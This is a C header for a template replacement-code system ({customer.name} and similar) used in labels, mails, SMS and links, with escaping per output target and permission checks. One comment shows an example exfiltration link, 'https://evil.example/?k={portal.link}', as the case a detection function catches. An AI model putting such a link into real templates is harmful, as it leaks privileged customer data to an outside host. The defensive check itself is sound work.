/*
 * codes -- replacement codes: {customer.name} in a text, replaced by its value.
 *
 * One closed language for labels, titles, mails, SMS and links (F-5): the rows
 * of codes.inc, parts of a value ({activity.date.dayOfWeek},
 * {activity.address.zipCode}), additional data ({customer.custom.boiler_brand}),
 * formats ({activity.date|long}).  {intervention.…} is another spelling of
 * {activity.…}.  "{{" is a brace; a brace that opens no code word stays as it is.
 *
 * One pass: what a value holds is never read as a code again, and every value is
 * escaped for the place it goes to.  An unknown code is a problem while editing;
 * in a text that was stored all the same it renders as nothing.
 */
#ifndef FORM_CODES_H
#define FORM_CODES_H

#include "base/err.h"
#include "base/money.h"
#include "base/time.h"

struct ctx;
struct buf;

enum code {
#define CODE(name, path, kind, needs, label) CODE_##name,
#include "form/codes.inc"
#undef CODE
	CODE_COUNT
};

/* What a code's value is: decides which parts and formats it knows. */
enum code_kind { CODE_IS_TEXT, CODE_IS_MOMENT, CODE_IS_WINDOW, CODE_IS_ADDRESS, CODE_IS_DURATION, CODE_IS_LINK,
    CODE_IS_CUSTOM };

/* A row of codes.inc, for the button that inserts them. */
struct code_row {
	const char *path;	/* "activity.reference"; of custom ones without the last part */
	enum code_kind kind;
	uint64_t needs;		/* RIGHT() bit of staff who may see its value (account/permission.h); 0: anybody */
	const char *label;	/* msgid */
};
extern const struct code_row code_rows[CODE_COUNT];

/* Where the text goes: how values are escaped. */
enum code_target {
	CODES_TEXT,	/* plain text: mails, ICS, labels that html escapes itself */
	CODES_HTML,	/* values as HTML text; the template around them is taken as it is */
	CODES_SMS,	/* one line: newlines and control characters become blanks */
	CODES_URL,	/* percent-encoded */
	CODES_JSON,	/* inside a JSON text: quotes, backslashes and control characters escaped */
};

/* The value a resolver gives.  Leave it untouched for "nothing". */
struct code_value {
	const char *text;	/* TEXT, ADDRESS ("Gasse 5, 9494 Schaan"), LINK, CUSTOM */
	instant at;		/* MOMENT, WINDOW: from; INSTANT_NONE: nothing */
	instant to;		/* WINDOW: to; none: the time alone */
	const struct zone *zone;	/* MOMENT, WINDOW: the wall to read; NULL: UTC */
	int64_t seconds;	/* DURATION; INT64_MIN: nothing */
};

/*
 * Gives the value of a code.  `argument` is the last part of a custom code
 * ("boiler_brand") or of {portal.action.<code>.link}; else "".
 */
typedef struct err *code_resolver(struct ctx *, void *arg, enum code, const char *argument, struct code_value *out);

/*
 * Notes every unknown code, part or format of `text` as a problem of `field`,
 * with its position and, when one is near, the code that was meant.
 */
void codes_check(struct ctx *, const char *text, const char *field, struct problems *);

/* The code that was probably meant by one that does not exist ("customer.nme"), without braces; NULL: no idea. */
const char *codes_meant(struct ctx *, const char *code);

/* The first code of the text that tells more than these RIGHT() bits may see: "{customer.phone}"; NULL: none does. */
const char *codes_beyond(struct ctx *, const char *text, uint64_t rights);

/*
 * The first code that tells more than these RIGHT() bits may see and stands inside an address, where whoever follows
 * it hands the value on: "https://evil.example/?k={portal.link}".  A link that begins its address is none: that leads
 * to us.  NULL: there is no such code.
 */
const char *codes_led_away(struct ctx *, const char *text, uint64_t rights);

/* True when the text holds a code. */
bool codes_used(const char *text);

/* The text with its codes replaced, in ctx->lang; at most 256 KiB. */
MUST_CHECK struct err *codes_render(struct ctx *, const char *text, enum code_target,
    code_resolver *, void *arg, const char **out);

#endif
